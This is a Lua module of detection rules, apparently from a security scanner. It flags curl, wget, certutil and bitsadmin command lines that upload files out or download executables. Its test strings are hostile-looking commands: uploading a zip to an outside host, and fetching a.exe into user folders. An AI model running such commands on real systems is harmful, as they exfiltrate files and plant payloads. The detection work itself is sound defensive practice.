-- Programs that fetch files or send them, told to do so: of Windows, and curl and wget. One row, one rule.

local command = require "kaiseki.detect.command"
local tools = require "kaiseki.detect.tools"

local url, user_file = tools.url, tools.user_file

local function certutil_target(each)
    if each:has("-urlcache", "-verifyctl", "-url") and url(each) then return url(each) end
    return nil
end

-- Options of curl (case matters) and wget that send what they name.
local SENDS = {
    ["-F"] = true, ["-T"] = true, ["-d"] = true, ["--form"] = true, ["--upload-file"] = true, ["--data"] = true,
    ["--data-binary"] = true, ["--post-file"] = true, ["--body-file"] = true,
}

local function sends(each)
    for at = 2, #each.words do
        if SENDS[each.words[at]:match "^[^=]+" or ""] then return true end
    end
    return false
end

-- How the argument behind an option names a file. An "@" anywhere else belongs to an address or a text.
local WHOLE, DATA, FORM = { "^(.+)$" }, { "^@(.+)$" }, { "=@([^;]+)", "=<([^;]+)" }
local NAMES_FILE = {
    curl = { ["-T"] = WHOLE, ["--upload-file"] = WHOLE, ["-F"] = FORM, ["--form"] = FORM, ["-d"] = DATA,
             ["--data"] = DATA, ["--data-ascii"] = DATA, ["--data-binary"] = DATA, ["--json"] = DATA,
             ["--data-urlencode"] = { "^[^=@]*@(.+)$" } },
    wget = { ["--post-file"] = WHOLE, ["--body-file"] = WHOLE },
}

local function named_file(patterns, argument)
    for _, pattern in ipairs(patterns or {}) do
        local file = argument:match(pattern)
        if file then return file end
    end
    return nil
end

-- The file that curl or wget is told to send: "-F file=@PATH", "-d @PATH", "-T PATH", "--post-file=PATH".
local function sent_file(each)
    local options = NAMES_FILE[each.program] or {}
    for at = 2, #each.words do
        local word = each.words[at]
        local option, argument = word:match "^(%-%-[%w-]+)=(.+)$"
        local file = named_file(options[each.words[at - 1]], word) or (option and named_file(options[option], argument))
        if file then return file end
    end
    return nil
end

-- Where a tool uploads a file to.
local function upload_target(each) return sent_file(each) and url(each) or nil end

local function uploaded(line)
    return command.first(line, function(each)
        local file = sent_file(each)
        return file and { name = each.program, file = file }
    end) or {}
end

local ROWS = {
    { id = "exfiltration.upload-tool", programs = { "curl", "wget" }, attack = "T1048", target = upload_target,
      verb = "upload-with-tool", role = "url", more = uploaded,
      match = [[curl -s -F file=@C:\Users\Public\a.zip https://upload.example]],
      other = [[curl -T C:\Users\x\a.zip ftp://203.0.113.5/]],
      no_match = [[curl -H "From: me@x.example" -d user=a@b.example https://shop.example]] },
    { id = "command-and-control.certutil", programs = { "certutil" }, attack = "T1105", target = certutil_target,
      verb = "download-with-tool", name = "certutil",
      match = [[certutil -urlcache -split -f http://203.0.113.5/a.exe C:\Users\x\a.exe]],
      no_match = "certutil -store my" },
    { id = "persistence.bitsadmin", programs = { "bitsadmin" }, attack = "T1197",
      target = function(each)
          local at = command.position(each, "/setnotifycmdline")
          return at and each.words[at + 2] or nil
      end,
      verb = "run-after-transfer", name = "bitsadmin", role = "command",
      match = [[bitsadmin /SetNotifyCmdLine job C:\Users\x\a.exe NULL]],
      no_match = "bitsadmin /setnotifyflags job 1" },
    { id = "command-and-control.bitsadmin", programs = { "bitsadmin" }, attack = "T1197",
      target = function(each)
          return each:has("/transfer", "/addfile") and (url(each) or "a-file") or nil
      end,
      verb = "transfer-with-tool", name = "bitsadmin",
      match = [[bitsadmin /transfer job http://203.0.113.5/a.exe C:\Users\x\a.exe]],
      no_match = "bitsadmin /list" },
    { id = "command-and-control.curl", programs = { "curl", "wget" }, attack = "T1105",
      target = function(each, case)
          return not sends(each) and url(each) and user_file(each, case) and url(each) or nil
      end,
      verb = "download-with-tool", means = "tool",
      match = [[curl -s http://203.0.113.5/a.exe -o C:\Users\x\AppData\Local\Temp\a.exe]],
      no_match = "curl http://203.0.113.5/status" },
}

for _, row in ipairs(ROWS) do rule(tools.rule(row)) end
